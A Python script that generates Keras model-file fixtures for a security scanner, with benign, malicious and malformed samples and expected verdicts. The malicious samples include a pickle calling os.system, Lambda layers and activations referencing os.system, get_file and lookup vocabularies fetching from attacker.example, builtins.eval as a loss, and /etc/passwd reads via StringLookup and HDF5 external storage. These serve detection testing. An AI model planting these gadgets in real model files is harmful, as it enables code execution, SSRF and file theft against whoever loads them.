#!/usr/bin/python3
"""make_keras_fixtures.py OUTDIR - Keras model configs and `.keras` zips.

Writes OUTDIR/{benign,malicious,malformed}/*.keras and OUTDIR/expected.tsv.
The `.keras` files are zips (config.json, metadata.json, model.weights.h5
as Keras 3 writes them); zip.c recognises the "keras" flavour and hands
config.json to mg_keras_config, and the weights member reaches the HDF5
reader by content.

The config builders here are shared with make_hdf5_fixtures.py (Keras 2
`.h5` files carry the same configs as HDF5 attributes). Nothing is ever
loaded: the JSON is written by hand in the shapes Keras 2 and 3 produce.
"""
import base64
import io
import json
import os
import sys
import zipfile

KERAS3 = "3.5.0"


def k3(module, cls, config, **extra):
    """A Keras 3 serialized object."""
    d = {"module": module, "class_name": cls, "config": config, "registered_name": None}
    d.update(extra)
    return d


def dtype3():
    return k3("keras", "DTypePolicy", {"name": "float32"})


def dense3(name, units, activation="relu"):
    return k3("keras.layers", "Dense", {
        "name": name, "trainable": True, "dtype": dtype3(), "units": units, "activation": activation,
        "use_bias": True,
        "kernel_initializer": k3("keras.initializers", "GlorotUniform", {"seed": None}),
        "bias_initializer": k3("keras.initializers", "Zeros", {}),
        "kernel_regularizer": None, "bias_regularizer": None, "kernel_constraint": None,
        "bias_constraint": None}, build_config={"input_shape": [None, 4]})


def sequential3(layers, compile_config=None):
    inp = k3("keras.layers", "InputLayer", {"batch_shape": [None, 4], "dtype": "float32", "sparse": False,
                                            "name": "input_layer"})
    cfg = k3("keras", "Sequential", {"name": "sequential", "trainable": True, "dtype": dtype3(),
                                     "layers": [inp] + layers}, build_config={"input_shape": [None, 4]})
    cfg["compile_config"] = compile_config or {
        "optimizer": k3("keras.optimizers", "Adam", {"name": "adam", "learning_rate": 0.001, "beta_1": 0.9,
                                                     "beta_2": 0.999, "epsilon": 1e-07, "amsgrad": False}),
        "loss": "mean_squared_error", "loss_weights": None, "metrics": ["mae"], "weighted_metrics": None,
        "run_eagerly": False, "steps_per_execution": 1, "jit_compile": False}
    return cfg


def dense2(name, units, activation="relu"):
    return {"class_name": "Dense", "config": {
        "name": name, "trainable": True, "dtype": "float32", "units": units, "activation": activation,
        "use_bias": True, "kernel_initializer": {"class_name": "GlorotUniform", "config": {"seed": None}},
        "bias_initializer": {"class_name": "Zeros", "config": {}}, "kernel_regularizer": None,
        "bias_regularizer": None, "activity_regularizer": None, "kernel_constraint": None,
        "bias_constraint": None}}


def sequential2(layers):
    inp = {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 4], "dtype": "float32",
                                                  "sparse": False, "ragged": False, "name": "dense_input"}}
    return {"class_name": "Sequential", "config": {"name": "sequential", "layers": [inp] + layers}}


TRAINING2 = {"loss": "mse", "metrics": [[{"class_name": "MeanMetricWrapper",
                                          "config": {"name": "mae", "dtype": "float32",
                                                     "fn": "mean_absolute_error"}}]],
             "weighted_metrics": None, "loss_weights": None,
             "optimizer_config": {"class_name": "Adam", "config": {
                 "name": "Adam", "learning_rate": 0.001, "decay": 0.0, "beta_1": 0.9, "beta_2": 0.999,
                 "epsilon": 1e-07, "amsgrad": False}}}

# Marshalled bytecode as Keras 2 stores a lambda: produced with compile(),
# never run; the bytes only need to look like what Keras writes.
LAMBDA_B64 = base64.b64encode(b"\xe3" + b"\x00" * 15 + b"os.system('id')").decode()
# a protocol-0 pickle calling os.system: what TorchModuleWrapper would unpickle
EVIL_PICKLE = b"cos\nsystem\n(S'id'\ntR."


def lambda2(name="lambda"):
    return {"class_name": "Lambda", "config": {"name": name, "trainable": True, "dtype": "float32",
                                               "function": [LAMBDA_B64, None, None], "function_type": "lambda",
                                               "module": "__main__", "output_shape": None,
                                               "output_shape_type": "raw", "output_shape_module": None,
                                               "arguments": {}}}


def lambda3(name="lambda"):
    return k3("keras.layers", "Lambda", {"name": name, "trainable": True, "dtype": dtype3(),
                                         "function": k3("builtins", "__lambda__",
                                                        {"code": LAMBDA_B64, "defaults": None,
                                                         "closure": None}),
                                         "arguments": {}})


def payloads():
    """(name, outcome, threats, what, keras3 config, keras2 config or None, training_config or None)."""
    out = []
    add = lambda *a: out.append(a)
    add("benign/sequential", "ALLOWED", "-", "Sequential of Dense layers as Keras writes it",
        sequential3([dense3("dense", 8), dense3("dense_1", 1, "linear")]),
        sequential2([dense2("dense", 8), dense2("dense_1", 1, "linear")]), TRAINING2)
    func = k3("keras", "Functional", {
        "name": "functional", "trainable": True,
        "layers": [k3("keras.layers", "InputLayer", {"batch_shape": [None, 3, 4], "name": "in"}),
                   k3("keras.layers", "TimeDistributed", {"name": "td", "layer": dense3("inner", 2)}),
                   k3("keras.layers", "Bidirectional", {"name": "bi", "layer": k3("keras.layers", "LSTM", {
                       "name": "lstm", "units": 4, "activation": "tanh", "recurrent_activation": "sigmoid"})}),
                   k3("keras.layers", "Dense", {"name": "out", "units": 1, "activation": k3(
                       "keras.activations", "function", "sigmoid"),
                       "kernel_regularizer": k3("keras.regularizers", "L2", {"l2": 0.01})})],
        "input_layers": [["in", 0, 0]], "output_layers": [["out", 0, 0]]})
    add("benign/functional_wrappers", "ALLOWED", "-",
        "Functional model with TimeDistributed, Bidirectional, function objects and regularizers",
        func, None, None)
    add("malicious/lambda", "BLOCKED", "MG-KERAS-300", "Lambda layer with marshalled bytecode",
        sequential3([lambda3()]), sequential2([lambda2()]), None)
    add("malicious/os_system", "BLOCKED", "MG-KERAS-100", "activation naming os.system (CVE-2025-1550)",
        sequential3([dense3("dense", 8, k3("os", "function", "system"))]),
        sequential2([dense2("dense", 8, {"module": "os", "class_name": "function", "config": "system",
                                          "registered_name": None})]), None)
    add("malicious/any_module_function", "BLOCKED", "MG-KERAS-100",
        "a function from a module outside Keras that no denylist names (allowlist-first)",
        sequential3([dense3("dense", 8, k3("somepkg.util", "function", "run_anything"))]), None, None)
    add("malicious/get_file", "BLOCKED", "MG-KERAS-100", "keras.utils.get_file gadget (CVE-2025-8747)",
        sequential3([k3("keras.utils", "get_file", {"fname": "x", "origin": "https://attacker.example/x"})]),
        sequential2([{"module": "keras.src.utils", "class_name": "function", "config": "get_file"}]), None)
    add("malicious/unsafe_deserialization", "BLOCKED", "MG-KERAS-100,MG-KERAS-300",
        "enable_unsafe_deserialization then a Lambda (CVE-2025-9906)",
        sequential3([k3("keras.config", "function", "enable_unsafe_deserialization"), lambda3()]), None, None)
    add("malicious/stringlookup_path", "BLOCKED", "MG-KERAS-102", "StringLookup vocabulary from /etc/passwd",
        sequential3([k3("keras.layers", "StringLookup", {"name": "lookup", "vocabulary": "/etc/passwd",
                                                         "num_oov_indices": 1})]),
        sequential2([{"class_name": "StringLookup", "config": {"name": "l", "vocabulary": "/etc/passwd"}}]), None)
    add("malicious/stringlookup_url", "BLOCKED", "MG-KERAS-102", "IntegerLookup vocabulary from a URL (SSRF)",
        sequential3([k3("keras.layers", "IntegerLookup", {"name": "lookup",
                                                          "vocabulary": "https://attacker.example/v.txt"})]),
        None, None)
    wrapped = base64.b64encode(EVIL_PICKLE).decode()
    add("malicious/torch_module_wrapper", "BLOCKED", "MG-KERAS-100,MG-PKL-100",
        "TorchModuleWrapper whose module bytes are a malicious pickle (CVE-2025-49655)",
        sequential3([k3("keras.layers", "TorchModuleWrapper", {"name": "torch", "module": wrapped,
                                                               "output_shape": None})]), None, None)
    add("malicious/custom_layer", "BLOCKED", "MG-KERAS-302",
        "unknown custom layer (needs user code; MEDIUM, blocked by the known-operators policy)",
        sequential3([k3("my_package.layers", "MyCustomLayer", {"name": "c"},
                        registered_name="my_package>MyCustomLayer")]),
        sequential2([{"class_name": "MyCustomLayer", "config": {"name": "c"}}]), None)
    add("malicious/training_eval_loss", "BLOCKED", "MG-KERAS-100", "compile/training config loss = builtins.eval",
        sequential3([dense3("d", 1)], compile_config={"loss": k3("builtins", "function", "eval"),
                                                      "metrics": ["mae"]}),
        sequential2([dense2("d", 1)]), {"loss": {"module": "builtins", "class_name": "function",
                                                   "config": "eval"}, "metrics": ["mae"]})
    add("malicious/nested_lambda", "BLOCKED", "MG-KERAS-300",
        "Lambda inside TimeDistributed inside a Sequential inside a Functional model",
        k3("keras", "Functional", {"name": "f", "layers": [
            k3("keras", "Sequential", {"name": "inner", "layers": [
                k3("keras.layers", "TimeDistributed", {"name": "td", "layer": lambda3()})]})]}), None, None)
    add("malicious/lambda_function_ref", "BLOCKED", "MG-KERAS-300,MG-KERAS-100",
        "Keras 2 Lambda whose function is os.system by reference", None,
        sequential2([{"class_name": "Lambda", "config": {"name": "l", "function": "system",
                                                         "function_type": "function", "module": "os"}}]),
        None)
    add("malicious/tfsmlayer", "BLOCKED", "MG-KERAS-102", "TFSMLayer loading a SavedModel from a path",
        sequential3([k3("keras.layers", "TFSMLayer", {"name": "t", "filepath": "/tmp/other_model"})]), None, None)
    return out


def malformed():
    """(name, bytes of config.json, threats, what)."""
    good = json.dumps(sequential3([dense3("dense", 8)]))
    dup = good[:-1] + ', "class_name": "Lambda"}'
    deep = "[" * 300 + "]" * 300
    return [
        ("malformed/not_json", b"{\"class_name\": \"Sequential\", \"config\": {", "MG-KERAS-400", "truncated JSON"),
        ("malformed/duplicate_keys", dup.encode(), "MG-KERAS-400,MG-KERAS-300",
         "class_name twice: json keeps the last (Lambda), another reader the first"),
        ("malformed/class_name_type", json.dumps({"class_name": 7, "config": {}}).encode(), "MG-KERAS-400",
         "class_name is a number"),
        ("malformed/layers_not_list", json.dumps(k3("keras", "Sequential", {"layers": "Dense"})).encode(),
         "MG-KERAS-400", "a Sequential's layers are a string"),
        ("malformed/not_object", b"[1, 2, 3]", "MG-KERAS-400", "the config is a list"),
        ("malformed/deep", json.dumps({"class_name": "Sequential", "config": json.loads(deep)}).encode(),
         "MG-FMT-401", "nesting past the walk's depth budget"),
    ]


def keras_zip(path, config_bytes, weights=None):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in (("metadata.json", json.dumps({"keras_version": KERAS3,
                                                          "date_saved": "2024-06-01@12:00:00"}).encode()),
                           ("config.json", config_bytes),
                           ("model.weights.h5", weights or b"")):
            zi = zipfile.ZipInfo(name, date_time=(2024, 6, 1, 12, 0, 0))
            zi.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(zi, data)
    with open(path, "wb") as f:
        f.write(buf.getvalue())


def weights_h5(external=False):
    """A Keras 3 model.weights.h5 (layers/<name>/vars/<i>), written by h5py;
    with `external`, one weight's bytes live in /etc/passwd (CVE-2026-1669)."""
    import h5py
    import numpy as np
    bio = io.BytesIO()
    with h5py.File(bio, "w", track_order=False) as f:
        for lname, shape in (("dense", (4, 8)), ("dense_1", (8, 1))):
            g = f.create_group("layers/%s/vars" % lname)
            g.create_dataset("0", data=np.zeros(shape, dtype="float32"), track_times=False)
            if external and lname == "dense_1":
                g.create_dataset("1", shape=shape[1:], dtype="float32", external=[("/etc/passwd", 0, 4)],
                                 track_times=False)
            else:
                g.create_dataset("1", data=np.zeros(shape[1:], dtype="float32"), track_times=False)
        f.create_group("optimizer/vars")
    return bio.getvalue()


def main():
    out = sys.argv[1]
    rows = []
    w = weights_h5()
    for name, outcome, threats, what, c3, _c2, _tc in payloads():
        if c3 is None:
            continue
        keras_zip(os.path.join(out, name + ".keras"), json.dumps(c3).encode(), w)
        rows.append((name + ".keras", outcome, threats, what + " (.keras)"))
    name = "malicious/weights_external_storage"
    keras_zip(os.path.join(out, name + ".keras"),
              json.dumps(sequential3([dense3("dense", 8), dense3("dense_1", 1, "linear")])).encode(),
              weights_h5(external=True))
    rows.append((name + ".keras", "BLOCKED", "MG-KERAS-102",
                 "a benign config whose model.weights.h5 reads a weight from /etc/passwd (CVE-2026-1669)"))
    for name, data, threats, what in malformed():
        keras_zip(os.path.join(out, name + ".keras"), data, w)
        rows.append((name + ".keras", "BLOCKED", threats, what + " (.keras)"))
    with open(os.path.join(out, "expected.tsv"), "w") as f:
        for r in rows:
            f.write("\t".join(r) + "\n")


if __name__ == "__main__":
    main()
